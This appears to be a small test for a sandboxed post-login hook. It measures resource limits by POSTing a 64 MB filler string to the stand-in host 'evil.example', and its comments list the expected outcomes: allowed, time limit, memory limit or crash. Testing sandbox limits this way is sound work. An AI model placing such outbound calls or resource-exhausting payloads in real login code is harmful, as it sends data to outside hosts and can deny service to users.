// A request with 64 MB of text. Ends: allowed or timeLimit or memoryLimit or crashed
// Making it may take all the time or memory; if not, it is refused for its size, and longer ones
// than a frame may be cost the worker.
exports.onExecutePostLogin = async (event, api) => {
  try {
    await fetch('https://evil.example/', { method: 'POST', body: 'x'.repeat(64 << 20) });
  } catch {}
};
